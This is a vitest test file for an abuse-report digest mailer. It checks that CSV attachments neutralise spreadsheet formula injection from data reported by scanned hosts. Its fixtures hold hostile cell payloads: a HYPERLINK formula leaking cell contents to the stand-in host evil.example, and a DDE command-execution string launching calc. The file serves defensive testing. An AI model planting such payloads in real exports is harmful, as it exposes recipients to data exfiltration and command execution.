import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PgliteStateStore } from '../store/state/pglite-store.js';
import { STATE_MIGRATIONS } from '../store/migrations/state/index.js';
import { splitCsvLine } from '../enrich/csv-fields.js';
import type { EmailMessage, Mailer } from './channels/email.js';
import { createRound } from './digest-round.js';
import { sendDueDigests } from './send-digests.js';

describe('digest CSV attachment', () => {
  let state: PgliteStateStore;
  const sent: EmailMessage[] = [];
  const mailer: Mailer = { send: async (m) => { sent.push(m); return { ok: true }; }, close: () => undefined };

  beforeAll(async () => {
    state = await PgliteStateStore.open();
    for (const m of STATE_MIGRATIONS) for (const s of m.statements) await state.exec(s);
    await state.query(`INSERT INTO organisations (id, name, kind, emails, language) VALUES ('a', 'ISP A', 'isp', '{abuse@isp-a.example}', 'en')`);
    // The device model and the detail come from what a scanned host said about itself.
    await state.query(
      `INSERT INTO cases (recipient, recipient_name, ip, kind, asn, device_model, detail, first_seen, last_seen) VALUES ($1, $2, $3, $4, $5, $6, $7, now(), now())`,
      ['org:a', 'ISP A', '192.0.2.9', 'default_credential', 64500, '=HYPERLINK("http://evil.example/?"&A1,"x")',
        JSON.stringify({ port: 23, transport: '@SUM(1+1)', credentialList: "+cmd|' /C calc'!A0", credentialId: '-2+3', cves: ['=1+1', 'CVE-2018-18778'] })],
    );
  }, 60_000);
  afterAll(async () => { await state.close(); });

  it('neutralises hostile cells, keeps numbers as numbers', async () => {
    await createRound(state, {});
    const s = await sendDueDigests(state, { mailer });
    expect(s.sent).toBe(1);
    const csv = sent[0]?.attachments?.[0]?.content ?? '';
    const [head, line, end] = csv.split('\r\n');
    expect(end).toBe('');
    const header = splitCsvLine(head ?? '') ?? [];
    const row = splitCsvLine(line ?? '') ?? [];
    const cell = (name: string): string => row[header.indexOf(name)] ?? `missing ${name}`;
    expect(cell('device_model')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
    expect(cell('protocol')).toBe("'@SUM(1+1)");
    expect(cell('credential_list')).toBe("'+cmd|' /C calc'!A0");
    expect(cell('credential_id')).toBe("'-2+3");
    expect(cell('cve')).toBe("'=1+1;CVE-2018-18778");
    expect(line).toContain(`"'@SUM(1+1)"`);
    expect(cell('port')).toBe('23');
    expect(cell('asn')).toBe('64500');
    expect(cell('ip')).toBe('192.0.2.9');
    for (const c of row.filter((x) => !/^-?\d+$/.test(x))) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
  });
});
